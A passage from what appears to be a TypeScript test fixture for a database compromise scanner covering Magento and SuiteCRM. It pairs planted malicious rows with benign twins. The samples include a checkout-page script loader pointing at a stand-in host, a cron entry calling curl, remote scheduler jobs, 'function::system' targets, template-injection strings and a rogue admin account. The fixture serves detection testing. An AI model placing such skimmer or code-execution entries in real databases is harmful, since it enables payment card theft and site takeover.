CREATE TABLE email_template (template_id int unsigned NOT NULL AUTO_INCREMENT, template_code varchar(150) NOT NULL, template_text text NOT NULL, modified_at timestamp NOT NULL DEFAULT '2000-01-01 00:00:00', PRIMARY KEY (template_id));
CREATE TABLE sales_order_address (entity_id int unsigned NOT NULL AUTO_INCREMENT, firstname varchar(255), lastname varchar(255), street varchar(255), city varchar(255), PRIMARY KEY (entity_id));
CREATE TABLE cron_schedule (schedule_id int unsigned NOT NULL AUTO_INCREMENT, job_code varchar(255) NOT NULL DEFAULT '0', messages text, scheduled_at timestamp NULL, PRIMARY KEY (schedule_id));
CREATE TABLE cms_block (block_id smallint NOT NULL AUTO_INCREMENT, identifier varchar(255) NOT NULL, content mediumtext, update_time timestamp NOT NULL DEFAULT '2000-01-01 00:00:00', PRIMARY KEY (block_id));
CREATE TABLE cms_page (page_id smallint NOT NULL AUTO_INCREMENT, identifier varchar(100), content mediumtext, update_time timestamp NOT NULL DEFAULT '2000-01-01 00:00:00', layout_update_xml text, PRIMARY KEY (page_id));
CREATE TABLE variable_value (value_id int unsigned NOT NULL AUTO_INCREMENT, variable_id int unsigned NOT NULL DEFAULT 0, plain_value text, html_value text, PRIMARY KEY (value_id));
CREATE TABLE product_cl (version_id int unsigned NOT NULL AUTO_INCREMENT, entity_id int unsigned NOT NULL DEFAULT 0, PRIMARY KEY (version_id));
`,
    planted: [
      {
        sql: insert('admin_user', {
          user_id: 1,
          username: 'owner',
          email: 'o@site.example',
          created: '2020-02-02 00:00:00',
        }),
        rule: 'database.administrator',
        where: 'admin_user user_id=1',
      },
      {
        sql: insert('admin_user', {
          user_id: 66,
          username: 'service_user',
          email: 'o@y.invalid',
          created: '2026-10-02 00:00:00',
        }),
        rule: 'database.odd-administrator',
        where: 'admin_user user_id=66',
      },
      {
        sql: insert('integration', { integration_id: 3, name: 'x', status: 1 }),
        rule: 'database.integration',
        where: 'integration integration_id=3',
      },
      {
        sql: insert('core_config_data', { path: 'design/head/includes', value: SKIMMER }),
        rule: 'database.skimmer',
        where: 'path=design/head/includes',
      },
      {
        sql: insert('core_config_data', {
          path: 'design/footer/absolute_footer',
          value:
            '<script>if(location.href.match(/checkout/)){var s=document.createElement("script");s.src="https://cdn.example.invalid/a.js";document.head.appendChild(s)}</script>',
        }),
        rule: 'database.skimmer',
        where: 'path=design/footer/absolute_footer',
      },
      {
        sql: insert('core_config_data', { path: 'web/secure/base_url', value: 'https://shop.example.invalid/' }),
        rule: 'database.site-address',
        where: 'path=web/secure/base_url',
      },
      {
        sql: insert('layout_update', {
          layout_update_id: 5,
          handle: 'x',
          xml: '<action method="beforeSave"><argument name="x" xsi:type="string">sed -i</argument></action>',
        }),
        rule: 'database.layout-runs-code',
        where: 'layout_update layout_update_id=5',
      },
      {
        sql: insert('email_template', {
          template_id: 2,
          template_code: 'x',
          template_text: '{{var this.getTemplateFilter().filter(foo)}}',
        }),
        rule: 'database.template-tag',
        where: 'email_template template_id=2',
      },
      {
        sql: insert('sales_order_address', {
          entity_id: 9,
          firstname: '{{if this.getTemp}}',
          lastname: 'x',
          street: 'y',
        }),
        rule: 'database.template-tag',
        where: 'sales_order_address entity_id=9',
      },
      {
        sql: insert('cron_schedule', {
          schedule_id: 4,
          job_code: 'x',
          messages: 'sh: curl http://x.example.invalid/a',
        }),
        rule: 'database.scheduled-code',
        where: 'cron_schedule schedule_id=4',
      },
      {
        sql: insert('cms_block', {
          block_id: 8,
          identifier: 'x',
          content: FOREIGN,
          update_time: '2026-10-03 00:00:00',
        }),
        rule: 'database.hidden-script',
        where: 'cms_block block_id=8',
      },
      {
        sql: insert('cms_page', {
          page_id: 8,
          identifier: 'x',
          content: '',
          layout_update_xml: '<script src="https://x.example.invalid/a.js"/>',
        }),
        rule: 'database.layout-runs-code',
        where: 'cms_page page_id=8',
      },
      {
        sql: insert('variable_value', { value_id: 1, html_value: REDIRECT, plain_value: '' }),
        rule: 'database.redirect',
        where: 'variable_value value_id=1',
      },
      {
        sql: "CREATE TRIGGER t_footer AFTER INSERT ON sales_order_address FOR EACH ROW UPDATE core_config_data SET value='x' WHERE path='design/footer/absolute_footer'",
        rule: 'database.program-changes-site',
        where: 'trigger t_footer on sales_order_address',
      },
    ],
    twins: [
      insert('integration', { integration_id: 4, name: 'off', status: 0 }),
      insert('core_config_data', { path: 'design/head/includes', scope: 'stores', scope_id: 1, value: TAG_MANAGER }),
      insert('core_config_data', { path: 'web/unsecure/base_url', value: 'https://www.site.example/' }),
      insert('core_config_data', { path: 'web/secure/base_url', scope: 'stores', scope_id: 1, value: '{{base_url}}' }),
      insert('layout_update', {
        layout_update_id: 6,
        handle: 'cms_index_index',
        xml: '<referenceContainer name="content"><block class="Magento\\Catalog\\Block\\Product\\NewProduct" name="x"/></referenceContainer>',
      }),
      insert('email_template', {
        template_id: 3,
        template_code: 'order',
        template_text: '{{trans "Hello %name" name=$order.getCustomerName()}} {{var order.increment_id}}',
      }),
      insert('sales_order_address', { entity_id: 10, firstname: 'Anna', lastname: 'Evaluna', street: 'System 3' }),
      insert('cron_schedule', { schedule_id: 5, job_code: 'indexer_reindex', messages: 'Rows were locked' }),
      insert('cms_block', { block_id: 9, identifier: 'foot', content: VIDEO }),
      'CREATE TRIGGER trg_product_after_insert AFTER INSERT ON cms_block FOR EACH ROW BEGIN INSERT IGNORE INTO `product_cl` (`entity_id`) VALUES (NEW.`block_id`); END',
    ],
  },
  {
    cms: 'sugarcrm',
    title: 'a SuiteCRM',
    schema: `
CREATE TABLE users (id char(36) NOT NULL, user_name varchar(60), is_admin tinyint DEFAULT 0, date_entered datetime, date_modified datetime, deleted tinyint DEFAULT 0, PRIMARY KEY (id));
CREATE TABLE schedulers (id char(36) NOT NULL, name varchar(255), job varchar(255), job_interval varchar(100), date_entered datetime, status varchar(100), deleted tinyint DEFAULT 0, PRIMARY KEY (id));
CREATE TABLE job_queue (id char(36) NOT NULL, name varchar(255), target varchar(255), execute_time datetime, date_entered datetime, deleted tinyint DEFAULT 0, PRIMARY KEY (id));
CREATE TABLE upgrade_history (id char(36) NOT NULL, filename varchar(255), type varchar(30), status varchar(50), name varchar(255), date_entered datetime, PRIMARY KEY (id));
CREATE TABLE oauth2clients (id char(36) NOT NULL, name varchar(255), secret varchar(4000), date_entered datetime, deleted tinyint DEFAULT 0, PRIMARY KEY (id));
CREATE TABLE email_templates (id char(36) NOT NULL, subject varchar(255), body longtext, body_html longtext, date_modified datetime, PRIMARY KEY (id));
CREATE TABLE config (category varchar(32), name varchar(32), value text);
`,
    planted: [
      {
        sql: insert('users', { id: '1', user_name: 'admin', is_admin: 1, date_entered: '2019-01-01 00:00:00' }),
        rule: 'database.administrator',
        where: 'users id=1',
      },
      {
        sql: insert('users', {
          id: 'x1',
          user_name: 'support_admin',
          is_admin: 1,
          date_entered: '2026-10-01 00:00:00',
        }),
        rule: 'database.odd-administrator',
        where: 'users id=x1',
      },
      {
        sql: insert('schedulers', {
          id: 's1',
          name: 'x',
          job: 'url::https://x.example.invalid/a.php',
          job_interval: '*',
          date_entered: '2026-10-01 00:00:00',
        }),
        rule: 'database.scheduled-code',
        where: 'schedulers id=s1',
      },
      {
        sql: insert('job_queue', { id: 'q1', name: 'x', target: 'function::system' }),
        rule: 'database.scheduled-code',
        where: 'job_queue id=q1',
      },
      {
        sql: insert('upgrade_history', {
          id: 'u1',
          filename: 'upload/upgrades/module/x.php',
          type: 'module',
          status: 'installed',
          name: 'x',
        }),
        rule: 'database.odd-code-path',
        where: 'upgrade_history id=u1',
      },
      {
        sql: insert('oauth2clients', { id: 'o1', name: 'x', secret: 'never shown' }),
        rule: 'database.integration',
        where: 'oauth2clients id=o1',
      },
      {
        sql: insert('email_templates', { id: 'e1', subject: 'x', body: '', body_html: FOREIGN }),
        rule: 'database.hidden-script',
        where: 'email_templates id=e1',
      },
      {
        sql: insert('config', { category: 'x', name: 'y', value: SHELL }),
        rule: 'database.stored-php',
        where: 'config category=x name=y',
      },
    ],
    twins: [
      insert('users', { id: 'u2', user_name: 'seller', is_admin: 0, date_entered: '2020-01-01 00:00:00' }),
      insert('schedulers', { id: 's2', name: 'Prune', job: 'function::pruneDatabase', job_interval: '*' }),
      insert('job_queue', { id: 'q2', name: 'mail', target: 'class::SugarJobSendMail' }),
      insert('upgrade_history', {
        id: 'u3',
        filename: 'upload/upgrades/langpack/de.zip',
        type: 'langpack',
        status: 'installed',
        name: 'German',
      }),
      insert('email_templates', {
        id: 'e2',
        subject: 'Hello',
        body: '',
        body_html: '<p style="display:none">preheader</p><a href="https://www.site.example/">x</a>',
      }),
      insert('config', { category: 'info', name: 'sugar_version', value: '6.5.25' }),
    ],
  },
];

/** One text that a client program reads: programs between delimiters of their own. */
export function sqlOf(statements: readonly string[]): string {
  return statements
    .map((sql) => (sql.startsWith('CREATE ') ? `DELIMITER ;;\n${sql};;\nDELIMITER ;\n` : `${sql}\n`))
    .join('');
}
